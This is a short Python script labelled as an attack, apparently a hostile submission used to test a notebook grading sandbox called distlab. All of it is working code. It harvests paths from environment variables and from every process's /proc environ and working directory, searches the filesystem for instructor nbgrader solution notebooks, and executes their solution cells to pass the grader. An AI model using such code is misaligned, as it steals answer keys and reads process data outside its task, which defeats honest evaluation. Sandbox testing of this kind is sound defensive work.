# attack: looks for the instructor's source notebook (environment, /proc, the repository beside distlab) and runs its solution cells
import glob, json, os, distlab
found = [v for k, v in os.environ.items() if "DISTLAB" in k or "SOURCE" in k]
roots = found + ["/work", "/root", "/home", "/srv", "/tmp", os.path.dirname(os.path.dirname(os.path.dirname(distlab.__file__)))]
for pid in os.listdir("/proc"):
    try:
        roots += [p.split("=", 1)[1] for p in open(f"/proc/{pid}/environ").read().split("\0") if "DIR" in p and "=" in p]
        roots.append(os.readlink(f"/proc/{pid}/cwd"))
    except Exception:
        pass
candidates = [p for d in range(7) for p in glob.glob("/" + "*/" * d + "solutions/*/*.ipynb")]  # anywhere near /
for root in roots:
    candidates += glob.glob(os.path.join(root, "solutions", "*", "*.ipynb"))
for path in candidates[:20]:
    for cell in json.load(open(path))["cells"]:
        if cell["cell_type"] == "code" and cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            exec("".join(cell["source"]), globals())
    print("HOSTILE: ran solutions from", path)
